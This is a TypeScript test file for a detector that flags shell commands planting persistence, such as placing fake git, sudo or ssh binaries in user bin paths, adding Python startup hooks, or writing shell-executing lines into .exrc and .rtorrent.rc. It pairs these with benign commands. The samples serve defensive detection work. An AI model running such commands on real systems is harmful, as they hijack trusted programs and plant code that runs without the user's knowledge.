import { expect, test } from 'vitest'
import { virtualCall } from '../../../../test/virtual-call.ts'
import { virtualPlace } from '../../../ground/model/place.ts'
import { readEffects } from '../../readers/index.ts'
import { flatMap } from '../../../ground/model/flat-map.ts'
import { placeThatRuns } from './place-that-runs.ts'
import { writtenPaths } from '../views/written-paths.ts'

function codesOf(command: string): readonly string[] {
  const call = virtualCall({ kind: 'shell', tool: null, arguments: { command } })
  const { effects } = readEffects(call, virtualPlace, new Map())
  return flatMap(effects, effect =>
    writtenPaths(effect).flatMap(target => placeThatRuns(target, effect) ?? []),
  )
}

const runs: readonly (readonly [command: string, code: string])[] = [
  ['cp helper ~/.local/bin/git', 'shadowed-program'],
  ['mv out ~/bin/sudo', 'shadowed-program'],
  ['curl -o ~/.cargo/bin/ls https://x.example.net/ls', 'shadowed-program'],
  ["printf '%s' x > ~/.pyenv/shims/ssh", 'shadowed-program'],
  ['ln -s ~/tools/wrap ~/.local/bin/curl', 'shadowed-program'],
  ['echo import x > ~/.local/lib/python3.12/site-packages/usercustomize.py', 'interpreter-start'],
  ['cp a.pth ~/.local/lib/python3.12/site-packages/a.pth', 'interpreter-start'],
  [`printf '#!/bin/sh\nexec /usr/local/bin/deno "$@"' > ~/.local/bin/deno`, 'shadowed-program'],
  ['cp filter ~/.lessfilter', 'program-settings'],
  ["echo 'execute = /bin/sh,-c,x' > ~/.rtorrent.rc", 'program-settings'],
  ["echo ':!/bin/sh x' >> ~/.exrc", 'program-settings'],
]

test.each(runs)('%s plants what a program runs', (command, code) => {
  expect(codesOf(command)).toContain(`persistence.${code}`)
})

const quiet: readonly string[] = [
  'cp notes.sh ~/.local/bin/my-notes',
  'ln -s /usr/bin/git ~/.local/bin/git',
  'ln -s /usr/bin/batcat ~/.local/bin/bat',
  'curl -o ~/.local/bin/kubectl https://dl.k8s.io/kubectl',
  'cp app bin/git',
  `printf '#!/bin/sh\nexec /opt/tools/x "$@"' > ~/.local/bin/deno`,
  "echo 'set number' > ~/.exrc",
  "echo 'disable=C0111' > ~/.pylintrc",
  'cp a.pth .venv/lib/python3.12/site-packages/a.pth',
  'cp tool /usr/share/x/git',
  "echo '\\timing on' > ~/.psqlrc",
]

test.each(quiet)('%s plants nothing', command => {
  expect(codesOf(command)).toEqual([])
})
